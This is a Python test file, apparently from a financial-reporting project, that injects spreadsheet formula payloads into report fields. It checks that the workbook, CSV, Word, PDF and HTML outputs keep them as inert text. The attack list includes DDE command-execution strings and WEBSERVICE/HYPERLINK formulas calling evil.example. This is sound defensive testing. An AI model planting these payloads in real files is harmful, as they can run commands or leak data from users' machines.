"""Nothing that somebody wrote becomes a formula in a document: the cases of injection in every text of a report."""

import csv
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import docx
import openpyxl
import pytest

from tests.treasury.reports import reading
from treasury.reports import published
from treasury.reports.compose import compose
from treasury.reports.documents.every import every
from treasury.reports.figures import missing
from treasury.reports.snapshot import Part, Restated, Statement, value_of

ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", " =1+1",
    "\u200b=1+1", "=cmd|' /C calc'!A0", "x;=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/","look")',
    '=DDE("cmd";"/C calc")', '=WEBSERVICE("http://evil.example/")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u22121+1", "﹦1+1", "﹢1", "﹫SUM(1)", '"=1+1', ' "=1+1"', 'x;"=1+1;"y', 'x\t"=1+1\t"y', 'x;" \u200b"=1+1;"y',
)  # fmt: skip
# The fonts of an English document lack the full-width forms; in notes and reasons, which data hold, they stand.
PRINTED = sorted({one.strip() for one in ATTACKS if one.isprintable() and one.isascii()})


@pytest.fixture(scope="module")
def attacked():
    """October with an attack in every place that takes words of a person, of a machine or of a map."""
    material = published.material("2025-10")
    facts = dict(material.facts)
    october = dict(facts["2025-10"])
    for place, code in enumerate(("cash_cost_per_btc_usd", "gpu_hours_sold", "loan_ltv_pct")):
        october[code] = missing(PRINTED[place], [ATTACKS[-place - 1]])
    october["btc_held"] = replace(october["btc_held"], note="=1+1", lineage=ATTACKS)
    facts["2025-10"] = october
    statements = [Statement("quote", 1, "en", one, f"={place}", "=x") for place, one in enumerate(PRINTED)]
    told = [Restated("2025-09", "btc_held", Decimal(1), Decimal(2), one, one) for one in PRINTED]
    none = value_of(missing("=1+1"))
    parts = [Part("region", one, none, none, none) for one in PRINTED]
    snapshot = compose(
        replace(material, facts=facts, statements=statements, restatements=told, parts=parts, source="=source()")
    )
    return {name.rpartition(".")[2]: data for name, data in every(snapshot).items()}


def test_the_workbook_holds_no_formula_but_its_own(attacked):
    book = openpyxl.load_workbook(io.BytesIO(attacked["xlsx"]))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if cell.data_type == "s"]

    assert all(formula.startswith("=ROUND(") for formula in formulas)
    assert len({cell.value for cell in texts} & set(PRINTED)) >= 10
    assert all(cell.quotePrefix for cell in texts)
    assert not book.defined_names
    assert not any("externalLink" in name for name in zipfile.ZipFile(io.BytesIO(attacked["xlsx"])).namelist())


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_file_of_commas_begins_a_formula_wherever_it_is_cut(attacked, delimiter):
    text = attacked["csv"].decode()

    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    begins = [cell for cell in cells if cell.strip('\u200b \t\r\n"')[:1] in set("=+@＝＋＠－﹦﹢﹫\u2212")]

    assert len(cells) > 50
    assert begins == []


def test_the_release_for_word_holds_no_field_but_the_page_number(attacked):
    body = zipfile.ZipFile(io.BytesIO(attacked["docx"]))
    whole = "".join(body.read(name).decode(errors="ignore") for name in body.namelist() if name.endswith(".xml"))

    assert whole.count("w:instrText") == 2
    assert "PAGE" in whole.split("w:instrText")[1]
    assert any("=cmd|" in one.text for one in docx.Document(io.BytesIO(attacked["docx"])).paragraphs)


def test_pdf_and_page_print_it_as_it_was_written(attacked):
    assert "=cmd|' /C calc'!A0" in " ".join(reading.pdf_text(attacked["pdf"]).split())
    assert "=HYPERLINK(&quot;http://evil.example/&quot;" in attacked["html"].decode()
